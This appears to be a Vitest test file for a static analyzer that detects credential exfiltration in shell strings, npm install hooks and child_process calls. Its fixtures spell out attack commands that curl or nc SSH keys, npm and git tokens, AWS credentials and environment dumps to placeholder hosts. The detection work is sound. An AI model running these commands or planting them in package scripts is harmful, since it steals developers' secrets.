import { describe, expect, it } from "vitest";
import { analyzeShell } from "../../../src/analyzers/js/shell.js";
import { parseShell } from "../../../src/analyzers/shell-words.js";
import { analyze, flowSummary, manifest, signatures } from "./helpers.js";

describe("shell command reading", () => {
  it("splits pipelines, lists and substitutions into commands", () => {
    const commands = parseShell(`cat ~/.npmrc | base64 && curl -d "$(cat /etc/passwd)" https://x.example.invalid; echo 'a | b'`);
    expect(commands.map((c) => c.program)).toEqual(["cat", "base64", "cat", "curl", "echo"]);
    expect(commands[4]!.args).toEqual(["a | b"]);
  });

  it("names credential reads, sending programs and their destinations", () => {
    const analysis = analyzeShell("curl -s -H 'X: 1' --data-binary @$HOME/.ssh/id_rsa https://203.0.113.4/u", signatures());
    expect(analysis.sources.map((s) => [s.kind, s.detail])).toEqual([["ssh-key", "$HOME/.ssh/id_rsa"]]);
    expect(analysis.sinks).toEqual([{ channel: "http", program: "curl", destination: "https://203.0.113.4/u", files: ["$HOME/.ssh/id_rsa"] }]);
    const nc = analyzeShell("tar czf - ~/.ssh | nc -w 3 198.51.100.2 9000", signatures());
    expect(nc.sinks).toEqual([{ channel: "socket", program: "nc", destination: "198.51.100.2", files: ["198.51.100.2", "9000"] }]);
    expect(nc.sources.map((s) => s.kind)).toEqual(["ssh-key"]);
  });

  it("reads secret variables and environment dumps", () => {
    const analysis = analyzeShell("env | curl -X POST -d @- https://e.example.invalid; echo ${GITHUB_TOKEN}", signatures());
    expect(analysis.sources.map((s) => s.kind).sort()).toEqual(["env-dump", "env-secret"]);
  });

  it("finds node files and inline code", () => {
    const analysis = analyzeShell(`node ./scripts/a.js --flag && node -e "require('./b')"`, signatures());
    expect(analysis.nodeFiles).toEqual(["./scripts/a.js"]);
    expect(analysis.nodeCode).toEqual(["require('./b')"]);
  });

  it("finds script files other JavaScript runtimes run, not their subcommands", () => {
    const analysis = analyzeShell("bun run ./payload.js; deno run -A stage.mjs; tsx x.ts; bun install; bunx left-pad; deno upgrade", signatures());
    expect(analysis.nodeFiles).toEqual(["./payload.js", "stage.mjs", "x.ts"]);
  });
});

describe("npm lifecycle scripts", () => {
  it("reports a curl pipeline at the script's line in package.json, install trigger", async () => {
    const facts = await analyze({ "package.json": manifest({ test: "jest", preinstall: "curl -s -d @$HOME/.npmrc https://n.example.invalid/c" }), "index.js": "" });
    expect(flowSummary(facts)).toEqual(["registry-token -> http https://n.example.invalid/c @package.json:7 (install)"]);
    expect(facts.sources[0]!.location).toEqual({ file: "package.json", line: 7, column: 5 });
  });

  it("analyses node -e inline code as code of the package, located at the script line", async () => {
    const code = "const h=require('https');h.request({hostname:'e.example.invalid',method:'POST'}).end(require('fs').readFileSync(require('os').homedir()+'/.git-credentials'))";
    const facts = await analyze({ "package.json": manifest({ postinstall: `node -e "${code}"` }), "index.js": "" });
    expect(flowSummary(facts)).toEqual(["git-credentials -> http https://e.example.invalid @package.json:6 (install)"]);
  });

  it("follows sh scripts and npm run", async () => {
    const facts = await analyze({
      "package.json": manifest({ postinstall: "npm run setup", setup: "sh ./scripts/setup.sh" }),
      "scripts/setup.sh": "#!/bin/sh\n# comment\ncat ~/.aws/credentials | nc 203.0.113.3 80\n",
      "index.js": "",
    });
    expect(flowSummary(facts)).toEqual(["cloud-credentials -> socket 203.0.113.3 @scripts/setup.sh:3 (install)"]);
  });

  it("a postinstall that downloads a binary is an install-time sink without a flow", async () => {
    const facts = await analyze({
      "package.json": manifest({ postinstall: "node install.js" }),
      "install.js": "const https = require('https'); const fs = require('fs');\nhttps.get(`https://github.com/o/r/releases/download/v1/bin-${process.platform}.tar.gz`, (res) => res.pipe(fs.createWriteStream('bin.tgz')));",
    });
    expect(facts.flows).toEqual([]);
    expect(facts.sinks.map((s) => [s.trigger, s.destination])).toEqual([["install", "https://github.com/o/r/releases/download/v1/bin-*.tar.gz"]]);
  });

  it("non-lifecycle scripts do not run at install", async () => {
    const facts = await analyze({ "package.json": manifest({ test: "curl -d @$HOME/.npmrc https://t.example.invalid" }), "index.js": "" });
    expect(facts.flows).toEqual([]);
  });
});

describe("child_process commands", () => {
  it("exec of a pipeline is a source and a sink in one", async () => {
    const facts = await analyze({ "index.js": "require('child_process').exec('cat ~/.ssh/id_rsa | curl -d @- https://x.example.invalid');" });
    expect(flowSummary(facts)).toEqual(["ssh-key -> http https://x.example.invalid @index.js:1 (import)"]);
  });

  it("spawn with an argument list and JS data in the arguments", async () => {
    const facts = await analyze({ "index.js": "require('child_process').spawn('curl', ['-d', process.env.NPM_TOKEN, 'https://s.example.invalid']);" });
    expect(flowSummary(facts)).toEqual(["env-secret -> http https://s.example.invalid @index.js:1 (import)"]);
  });

  it("execSync of cat gives its output the credential", async () => {
    const facts = await analyze({ "index.js": "const out = require('child_process').execSync('cat ~/.git-credentials');\nfetch('https://g.example.invalid', { body: out });" });
    expect(flowSummary(facts)).toEqual(["git-credentials -> http https://g.example.invalid @index.js:2 (import)"]);
  });
});

describe("keys used to authenticate a command", () => {
  it.each([
    ["scp -i", "scp -i ~/.ssh/id_rsa -r dist deploy@www.example.org:/srv"],
    ["ssh -o IdentityFile", "scp -o IdentityFile=~/.ssh/id_ed25519 dist.tgz deploy@www.example.org:/srv"],
    ["rsync -e 'ssh -i key'", "rsync -az -e 'ssh -i ~/.ssh/id_rsa' public/ deploy@www.example.org:/srv"],
    ["curl --key (TLS client key)", "curl --key ~/.ssh/id_rsa https://www.example.org/"],
  ])("%s is not a credential sent", (_name, command) => {
    expect(analyzeShell(command, signatures()).sources).toEqual([]);
  });

  it("the same key given as a file to copy is still read and sent", () => {
    const analysis = analyzeShell("scp -i ~/.ssh/id_rsa ~/.ssh/id_rsa x@evil.example.invalid:/tmp", signatures());
    expect(analysis.sources.map((s) => s.detail)).toEqual(["~/.ssh/id_rsa"]);
  });
});
